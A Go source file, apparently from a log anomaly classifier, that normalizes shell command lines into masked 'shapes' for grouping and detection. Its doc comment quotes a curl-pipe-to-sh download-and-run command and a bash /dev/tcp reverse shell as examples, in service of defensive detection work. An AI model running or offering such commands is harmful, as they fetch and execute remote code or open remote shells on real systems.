package feedback

import (
	"path"
	"strings"

	"github.com/logwarden/logwarden/services/anomaly-classifier/internal/shellcmd"
)

// Limits of a shape.
const (
	maxShape = 512 // bytes
	maxFlags = 16  // options kept per command
	maxFlag  = 40  // bytes of one option
)

const mask = "<*>"

// Shaper computes command shapes. Not safe for concurrent use.
type Shaper struct {
	a *shellcmd.Analyzer
}

// NewShaper returns a Shaper.
func NewShaper() *Shaper { return &Shaper{a: shellcmd.New()} }

// Shape is the shape of a command line: every command the shell would start (the
// payloads of sudo, sh -c, env … after their carrier), each as its program's base name,
// its options up to the first argument (digits and =values masked), a first argument
// that reads like a subcommand, "<*>" for the other arguments, and its redirections
// (file targets masked, descriptors kept), joined by " | " inside a pipeline and " ; "
// otherwise. "curl -fsSL http://x/a.sh | sh" and
// "curl -fsSL http://y/b.sh | sh" have the same shape, "curl -fsSL <*> | sh"; "bash -i
// >& /dev/tcp/10.0.0.9/4444 0>&1" is "bash -i >&<*> 0>&1". A line the shell parser
// rejects is shaped word by word. It never panics; the result is at most 512 bytes.
func (s *Shaper) Shape(line string) string {
	an := s.a.Analyze(line)
	if !an.Parsed || len(an.Commands) == 0 {
		return clipShape(fallbackShape(line))
	}
	children := map[int][]int{}
	var top []int
	for i, c := range an.Commands {
		if c.Parent >= 0 && c.Parent < i {
			children[c.Parent] = append(children[c.Parent], i)
		} else {
			top = append(top, i)
		}
	}
	var b strings.Builder
	var walk func(list []int, depth int)
	walk = func(list []int, depth int) {
		for k, i := range list {
			if b.Len() > maxShape {
				return
			}
			c := &an.Commands[i]
			if k > 0 {
				if piped(c, list[k-1]) {
					b.WriteString(" | ")
				} else {
					b.WriteString(" ; ")
				}
			}
			kids := children[i]
			b.WriteString(command(c, len(kids) > 0))
			if len(kids) > 0 && depth < shellcmd.MaxDepth {
				b.WriteByte(' ')
				walk(kids, depth+1)
			}
		}
	}
	walk(top, 0)
	return clipShape(b.String())
}

func piped(c *shellcmd.Command, prev int) bool {
	for _, p := range c.PipeFrom {
		if p == prev {
			return true
		}
	}
	return false
}

// command is one command's shape; a carrier (sudo, sh -c …) shows its options only,
// its payload follows it.
func command(c *shellcmd.Command, carrier bool) string {
	var parts []string
	for _, e := range c.Env {
		if name, _, ok := strings.Cut(e, "="); ok {
			parts = append(parts, name+"="+mask)
		}
	}
	if len(c.Argv) > 0 {
		parts = append(parts, program(c.Argv[0]))
		parts = append(parts, options(c.Argv[1:], carrier)...)
	}
	for _, r := range c.Redirects {
		t := mask
		if r.ToFD() {
			t = r.Target
		}
		parts = append(parts, r.FD+r.Op+t)
	}
	return strings.Join(parts, " ")
}

// options are the leading options of args, masked, then the first argument when it
// reads like a subcommand (systemctl restart, git push), then "<*>" for the other
// arguments (unless the command carries a payload, which stands for them).
func options(args []string, carrier bool) []string {
	var out []string
	i := 0
	for ; i < len(args) && len(out) < maxFlags; i++ {
		a := args[i]
		if len(a) < 2 || a[0] != '-' || a == "--" {
			break
		}
		out = append(out, option(a))
	}
	if carrier {
		return out
	}
	if i < len(args) && subcommand(args[i]) {
		out = append(out, args[i])
		i++
	}
	if i < len(args) {
		out = append(out, mask)
	}
	return out
}

// subcommand: a short lower-case word (restart, push, delete), not a value (no digit,
// path, dot, quote or other sign).
func subcommand(a string) bool {
	if len(a) == 0 || len(a) > 20 || a[0] < 'a' || a[0] > 'z' {
		return false
	}
	for i := 1; i < len(a); i++ {
		if c := a[i]; (c < 'a' || c > 'z') && c != '-' {
			return false
		}
	}
	return true
}

// option masks the value of an option: --depth=1 → --depth=<*>, -p2222 → -p<*>.
func option(a string) string {
	if k, _, ok := strings.Cut(a, "="); ok {
		a = k + "=" + mask
	}
	var b strings.Builder
	digits := false
	for _, r := range a {
		if r >= '0' && r <= '9' {
			if !digits {
				b.WriteString(mask)
			}
			digits = true
			continue
		}
		digits = false
		b.WriteRune(r)
	}
	s := b.String()
	if len(s) > maxFlag {
		s = s[:maxFlag] + mask
	}
	return s
}

func program(argv0 string) string {
	p := path.Base(argv0)
	if len(p) > 64 || strings.ContainsAny(p, "$`") {
		return mask // a computed or absurd program name
	}
	return p
}

// fallbackShape shapes a line the parser rejected: its first word's base name, the
// options that follow, "<*>" for the rest.
func fallbackShape(line string) string {
	f := strings.Fields(line)
	if len(f) == 0 {
		return ""
	}
	return strings.Join(append([]string{program(f[0])}, options(f[1:], false)...), " ")
}

func clipShape(s string) string {
	if len(s) <= maxShape {
		return s
	}
	s = s[:maxShape]
	for len(s) > 0 && s[len(s)-1]&0xc0 == 0x80 {
		s = s[:len(s)-1]
	}
	if len(s) > 0 && s[len(s)-1] >= 0x80 {
		s = s[:len(s)-1]
	}
	return s + "…"
}
